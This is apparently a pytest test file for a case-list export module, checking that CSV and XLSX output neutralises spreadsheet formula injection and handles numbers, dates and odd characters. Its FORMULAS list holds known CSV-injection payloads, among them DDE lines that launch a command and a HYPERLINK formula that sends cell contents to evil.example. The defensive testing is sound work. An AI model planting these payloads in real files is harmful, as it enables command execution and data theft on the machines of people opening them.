from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING, Any
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import literal

from grievance.casebook.lists.listing import Column, Kind
from grievance.casebook.lists.sheets import About, Table, csv_pieces, harmless, xlsx
from grievance.questionnaire.text import say
from tests.kit.workbook import Cell, cells_of, sheets_of

if TYPE_CHECKING:
    from collections.abc import Sequence
    from pathlib import Path

COLUMNS = tuple(
    Column(kind.value, say("test", kind.value), literal(""), kind)
    for kind in (Kind.TEXT, Kind.NUMBER, Kind.DAY, Kind.WEEK, Kind.CHOICE)
)
ROW = {
    "text": "Late “pay”, again; or\nnot",
    "number": "1500.50",
    "day": "2026-11-24",
    "week": "2026-W48",
    "choice": "in_court",
}
EMPTY = dict.fromkeys(ROW)
# CWE-1236, OWASP "CSV Injection" and what spreadsheet programs are known to start from.
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+1",
    "-1+1",
    "+cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "harmless;=1+1",
    "harmless\t=1+1",
    "two lines\n=1+1",
    "two lines\r\n=1+1",
    "a; @SUM(1)",
    "--1",
    "-",
    "=",
)


def _said(column: Column, value: Any) -> str:  # noqa: ANN401
    return f"<{value}>" if column.kind is Kind.CHOICE else str(value)


def _table(*rows: dict[str, Any], headings: Sequence[str] = "abcde") -> Table:
    return Table("Cases", COLUMNS, tuple(headings), rows, _said)


def _csv(table: Table) -> list[list[str]]:
    body = b"".join(csv_pieces(table))
    assert body.startswith(b"\xef\xbb\xbf")
    assert body.endswith(b"\r\n")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), strict=True))


def _xlsx(table: Table, scratch: Path, about: About | None = None) -> bytes:
    body = xlsx(table, about or About("About", (("Rows", "1"),)), scratch)
    assert list(scratch.iterdir()) == [], "a temporary file was left"
    return body


def test_a_csv_file_gives_back_what_was_put_in() -> None:
    assert _csv(_table(ROW, EMPTY)) == [
        ["a", "b", "c", "d", "e"],
        [ROW["text"], "1500.50", "2026-11-24", "2026-W48", "<in_court>"],
        ["", "", "", "", ""],
    ]


def test_a_workbook_holds_numbers_and_days_as_such(tmp_path: Path) -> None:
    body = _xlsx(_table(ROW, EMPTY), tmp_path)
    assert cells_of(body, 1) == {
        "A1": Cell("a"), "B1": Cell("b"), "C1": Cell("c"), "D1": Cell("d"), "E1": Cell("e"),
        "A2": Cell(ROW["text"]), "B2": Cell("1500.5", is_number=True),
        # 2026-11-24 as spreadsheets count days, with a format that shows a day.
        "C2": Cell("46350", is_number=True, shown_as="yyyy-mm-dd"),
        "D2": Cell("2026-W48"), "E2": Cell("<in_court>"),
    }  # fmt: skip


def test_a_workbook_says_what_it_is_and_keeps_its_headings_in_sight(tmp_path: Path) -> None:
    about = About("About: this/file", (("List", "Cases"), ("By", "=Asha")))
    body = _xlsx(_table(ROW), tmp_path, about)
    assert sheets_of(body) == ["Cases", "About  this file"]
    assert cells_of(body, 2) == {
        "A1": Cell("List"), "B1": Cell("Cases"), "A2": Cell("By"), "B2": Cell("'=Asha"),
    }  # fmt: skip
    with ZipFile(io.BytesIO(body)) as book:
        assert b'state="frozen"' in book.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("text", FORMULAS)
def test_nothing_written_by_people_becomes_a_formula(text: str, tmp_path: Path) -> None:
    row = {**ROW, "text": text, "number": text, "day": text, "week": text, "choice": text}
    table = _table(row, headings=[text] * 5)
    body = _xlsx(table, tmp_path)
    with ZipFile(io.BytesIO(body)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet
        assert "hyperlink" not in sheet
        assert not [name for name in book.namelist() if "externalLink" in name]
    assert not any(cell.is_number for cell in cells_of(body, 1).values())
    for cells in _csv(table):
        # However it is cut: at commas, at semicolons, at tabs, at line ends.
        for cell in cells:
            for part in cell.replace("\r", ";").replace("\n", ";").replace("\t", ";").split(";"):
                bare = part.strip(" \u00a0\ufeff\u200b")
                assert not bare.startswith(
                    ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
                ), cells


@pytest.mark.parametrize("number", ["-5", "+5", "12", "-1.5", "3,5"])
def test_numbers_stay_numbers(number: str) -> None:
    assert harmless(number) == number


@given(st.text())
def test_making_harmless_twice_changes_no_more(text: str) -> None:
    once = harmless(text)
    assert harmless(once) == once
    assert once.replace("'", "") == text.replace("'", "")


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_any_text_comes_back_from_a_csv_file(text: str) -> None:
    assert _csv(_table({**ROW, "text": text}))[1][0] == harmless(text)


def test_a_workbook_takes_what_xml_cannot_hold(tmp_path: Path) -> None:
    text = "a\x00b\x1fc\ud800d\ufffee_x0041_\U0001f600"
    cell = cells_of(_xlsx(_table({**ROW, "text": text}), tmp_path), 1)["A2"]
    assert cell.text.startswith("abcd")
    assert cell.text.endswith("\U0001f600")


def test_an_endless_text_is_cut_where_the_format_ends(tmp_path: Path) -> None:
    body = _xlsx(_table({**ROW, "text": "x" * 40_000}), tmp_path)
    assert len(cells_of(body, 1)["A2"].text) == 32_767


def test_a_link_stays_text(tmp_path: Path) -> None:
    body = _xlsx(_table({**ROW, "text": "https://evil.example/"}), tmp_path)
    assert cells_of(body, 1)["A2"] == Cell("https://evil.example/")
    with ZipFile(io.BytesIO(body)) as book:
        assert not [name for name in book.namelist() if "rels" in name and "sheet1" in name]
